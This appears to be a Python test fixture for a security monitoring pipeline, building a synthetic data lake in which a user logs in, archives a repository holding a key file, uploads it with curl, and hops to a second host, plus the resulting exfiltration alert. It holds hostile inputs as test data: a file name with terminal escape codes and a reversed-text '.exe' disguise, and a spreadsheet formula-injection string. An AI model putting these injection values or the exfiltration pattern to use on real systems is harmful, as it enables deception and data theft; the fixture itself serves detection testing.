"""A small lake with one story: alice logs in from 198.51.100.7, packs a folder and uploads it."""

from __future__ import annotations

from collections.abc import Iterable
from pathlib import Path
from typing import Any

import msgspec
import pyarrow as pa
import pyarrow.parquet as pq

from collector.lake import columns, snapshot
from collector.lake.snapshot import Snapshot
from collector.rules import rulebook
from collector.rules.rulebook import Book
from evidence.kind import Actor, Body, Endpoint
from evidence.kinds.agent import Heartbeat, Start
from evidence.kinds.collector import Act
from evidence.kinds.connection import Close, Open
from evidence.kinds.file import Read
from evidence.kinds.login import Accepted, Failed
from evidence.kinds.process import Ancestor, Exec, Exit

AGENT = "a1" * 16
BOOT = "3f0c9a52-0000-4000-8000-000000000001"
HOST = "web-1"
NOW = 1_800_000_000 * 10**9
SECOND = 10**9
SESSION = 7
SOURCE = "198.51.100.7"
DESTINATION = "203.0.113.9"
FINGERPRINT = "SHA256:l5mbwDdDCBDMaEVh1mGcLeKIEiyF7pBGMWPOGOsMLPE"
UPLOADED = 12_345_678
ALERT = "c0ffee" + "0" * 58
EVIL = "\x1b[2Jtmp\x1b]0;owned\x07\u202egpj.exe"
"""A file name that would clear a terminal, rename its window, and turn its text around."""

SSHD = Ancestor(pid=900, start=90, exe="/usr/sbin/sshd")
FORKED = Ancestor(pid=1000, start=100, exe="/usr/sbin/sshd")
BASH = Ancestor(pid=1001, start=101, exe="/usr/bin/bash")
CURL = Actor(pid=1003, start=103, exe="/usr/bin/curl", uid=1000, auid=1000, session=SESSION)
_WHO: dict[str, Any] = {"uid": 1000, "auid": 1000, "session": SESSION, "user": "alice", "login": "alice"}


def story() -> list[Body]:
    """Return the bodies in order, a second apart."""
    remote = Endpoint(ip=DESTINATION, port=443, name="files.example")
    flow: dict[str, Any] = {
        "flow": 5,
        "protocol": "tcp",
        "direction": "out",
        "local": Endpoint(ip="192.0.2.10", port=40000),
        "remote": remote,
        "actor": CURL,
    }
    return [
        Start(version="0.1.0", host=HOST, clean=True),
        Failed(program="sshd", user="root", source=Endpoint(ip="198.51.100.99", port=1), known=True),
        Accepted(
            program="sshd",
            user="alice",
            pid=1000,
            session=SESSION,
            auid=1000,
            method="publickey",
            fingerprint=FINGERPRINT,
            source=Endpoint(ip=SOURCE, port=50022),
        ),
        _exec(1001, 101, FORKED, ("-bash",), "/usr/bin/bash", ancestry=(FORKED, SSHD)),
        _exec(1002, 102, BASH, ("tar", "czf", "/srv/s.tgz", "/srv/repo"), "/usr/bin/tar"),
        Read(path="/srv/repo/key.pem", tree="/srv/repo", files=3, opens=9, actor=_actor(1002, 102)),
        Exit(pid=1002, start=102, exe="/usr/bin/tar", code=0, duration=3 * SECOND, session=SESSION),
        _exec(1003, 103, BASH, ("curl", "-T", "/srv/s.tgz", "https://files.example/"), "/usr/bin/curl"),
        Open(**flow),
        Close(**flow, bytes_out=UPLOADED, bytes_in=4321, duration=2 * SECOND),
        _exec(1004, 104, BASH, ("touch", EVIL), "/usr/bin/touch"),
        _exec(1005, 105, BASH, ("=cmd|' /C calc'!A0",), "=HYPERLINK(1)"),
        Heartbeat(events=12, interval=60.0, sensors={"process": "bpf"}),
    ]


def _exec(
    pid: int,
    start: int,
    parent: Ancestor,
    argv: tuple[str, ...],
    exe: str,
    *,
    ancestry: tuple[Ancestor, ...] = (BASH, FORKED, SSHD),
) -> Exec:
    return Exec(
        pid=pid,
        start=start,
        ppid=parent.pid,
        parent_start=parent.start,
        exe=exe,
        argv=argv,
        ancestry=ancestry,
        **_WHO,
    )


def _actor(pid: int, start: int) -> Actor:
    return Actor(pid=pid, start=start, exe="/usr/bin/tar", uid=1000, auid=1000, session=SESSION)


def rows(bodies: Iterable[Body], *, agent: str = AGENT, host: str = HOST, first: int = 1) -> pa.Table:
    """Return bodies as rows of the lake, a second apart and all before NOW."""
    origin = {"agent": agent, "epoch": 1, "boot": BOOT, "host": host, "lane": "bulk", "contested": False}
    made = []
    for seq, body in enumerate(bodies, first):
        at = NOW - 60 * SECOND + seq * SECOND
        place = {"seq": seq, "time": at, "received": at + SECOND, "mono": seq * SECOND}
        made.append(origin | place | {"ledger_index": 4 if seq < 8 else 5} | _columns(body))
    return pa.Table.from_pylist(made, columns.schema("events"))


def _columns(body: Body) -> dict[str, Any]:
    """Return the columns a body fills; only what the story needs, the store's own tests have the rest."""
    said: dict[str, Any] = msgspec.to_builtins(body)
    flat = {**said.get("actor", {}), **said}
    names = set(columns.schema("events").names)
    found = {name: value for name, value in flat.items() if name in names}
    found |= {"body": msgspec.json.encode(body).decode(), "user_name": said.get("user")}
    if "argv" in said:
        found["cmd_line"] = " ".join(said["argv"])
    source = said.get("source") or (said.get("local") if "remote" in said else None)
    for side, end in (("src", source), ("dst", said.get("remote"))):
        if end is not None:
            found |= {f"{side}_ip": end["ip"], f"{side}_port": end.get("port")}
    if "remote" in said:
        found["name"] = said["remote"].get("name")
    if said["kind"] in ("login.accepted", "login.failed"):
        found["outcome"] = "success" if said["kind"] == "login.accepted" else "failure"
    if flat.get("session") == SESSION:
        found |= {"person": "alice", "how": "kernel", "person_source": SOURCE}
    return found


def alert_row(number: int = 0, detected: int = NOW - 40 * SECOND, severity: str = "high") -> dict[str, Any]:
    """Return an alert about the upload."""
    return {
        "id": ALERT if number == 0 else f"{number:064x}",
        "rule": "upload_by_login",
        "entity": f"{AGENT}|{number}",
        "revision": 0,
        "version": 1,
        "severity": severity,
        "title": "Upload by an interactive login",
        "summary": f"alice sent 12.3 MB to {DESTINATION}",
        "time": NOW - 50 * SECOND,
        "detected": detected,
        "agent": AGENT,
        "host": HOST,
        "person": "alice",
        "how": "kernel",
        "session": SESSION,
        "person_source": SOURCE,
        "fingerprint": FINGERPRINT,
        "destination": f"{DESTINATION}:443",
        "bytes_out": UPLOADED,
        "evidence": [f"{AGENT}:1:{seq}" for seq in (3, 5, 10)],
        "attack": ["T1048"],
        "details": '{"program":"curl"}',
    }


NEXT = "b2" * 16
"""An agent whose session 21 was reached from alice's: its events were stored before that was known."""


def reached() -> pa.Table:
    """Return what was done on app-1 as deploy, under the name that was known when it came."""
    who: dict[str, Any] = {"uid": 1002, "auid": 1002, "session": 21, "user": "deploy", "login": "deploy"}
    login = Accepted(
        program="sshd",
        user="deploy",
        pid=70,
        session=21,
        auid=1002,
        source=Endpoint(ip="192.0.2.10", port=40001),
    )
    made = rows(
        [login, Exec(pid=2001, start=1, exe="/usr/bin/id", argv=("id",), **who)], agent=NEXT, host="app-1"
    ).to_pylist()
    named = {"person": "deploy", "how": "kernel", "person_source": "192.0.2.10"}
    return pa.Table.from_pylist([row | named for row in made], columns.schema("events"))


def session_rows() -> list[dict[str, Any]]:
    """Return alice's session, and the one that was reached from it, with its former revision."""
    first = {
        "agent": AGENT, "boot": BOOT, "session": SESSION, "host": HOST, "user": "alice", "person": "alice",
        "how": "kernel", "source": SOURCE, "fingerprint": FINGERPRINT, "login_source": SOURCE,
        "login_fingerprint": FINGERPRINT, "opened": NOW - 57 * SECOND, "closed": NOW - 20 * SECOND,
        "skew": 0, "evidence": [f"{AGENT}:1:3"], "bytes_out": UPLOADED, "bytes_in": 4321,
        "revised": NOW - 10 * SECOND,
    }  # fmt: skip
    hop = {
        "agent": AGENT, "host": HOST, "boot": BOOT, "session": SESSION, "user": "alice", "how": "kernel",
        "because": [f"{AGENT}:1:9", f"{NEXT}:1:1"],
    }  # fmt: skip
    own = first | {
        "agent": NEXT, "session": 21, "host": "app-1", "user": "deploy", "person": "deploy",
        "source": "192.0.2.10", "fingerprint": None, "login_source": "192.0.2.10", "login_fingerprint": None,
        "opened": NOW - 50 * SECOND, "closed": None, "evidence": [f"{NEXT}:1:1"], "bytes_out": 5000,
        "bytes_in": 10,
    }  # fmt: skip
    linked = own | {
        "person": "alice", "how": "hop", "source": SOURCE, "fingerprint": FINGERPRINT,
        "chain": msgspec.json.encode([hop]).decode(), "evidence": [f"{AGENT}:1:9", f"{NEXT}:1:1"],
        "bytes_out": 6000, "revised": NOW - 5 * SECOND,
    }  # fmt: skip
    return [first, own, linked]


def batch_row(seq: int) -> dict[str, Any]:
    """Return one batch of the bulk lane."""
    return {
        "agent": AGENT,
        "epoch": 1,
        "lane": "bulk",
        "seq": seq,
        "digest": f"{seq:064x}",
        "ledger_index": seq + 3,
        "entry": "batch",
        "events": 7,
        "stored": 7,
        "state": "decoded",
        "first_time": NOW - 59 * SECOND,
        "last_time": NOW - 48 * SECOND,
        "received": NOW - 30 * SECOND,
        "sent": NOW - 31 * SECOND,
        "boot": BOOT,
        "version": "0.1.0",
        "contested": False,
    }


class Lake:
    """Parquet files and a snapshot of them, as the pipeline leaves them."""

    def __init__(self, folder: Path) -> None:
        self.snapshot = folder / "snapshot.json"
        self._folder = folder
        self._tables: dict[str, tuple[str, ...]] = {}
        self._number = 0
        self._book = Book()

    def record(self, act: Act) -> None:
        """Let an act take effect, as it does once the pipeline has read it."""
        book = rulebook.apply(self._book, act, NOW)
        if book is not self._book:
            self._book = book
            self._publish()

    def add(self, name: columns.TableName, table: pa.Table | list[dict[str, Any]]) -> None:
        """Add rows to a table of the lake, and tell readers."""
        made = table if isinstance(table, pa.Table) else pa.Table.from_pylist(table, columns.schema(name))
        self._number += 1
        path = self._folder / f"{name}-{self._number}.parquet"
        pq.write_table(made, path)
        self._tables[name] = (*self._tables.get(name, ()), str(path))
        self._publish()

    def _publish(self) -> None:
        shown = Snapshot(self._number, self._number, NOW, dict(self._tables), self._book)
        snapshot.write(self.snapshot, shown)


def make(folder: Path) -> Lake:
    """Return a lake with the story, its alert, and its batches."""
    lake = Lake(folder)
    lake.add("events", rows(story()))
    lake.add("alerts", [alert_row()])
    lake.add("batches", [batch_row(1), batch_row(2)])
    lake.add("sessions", session_rows())
    return lake
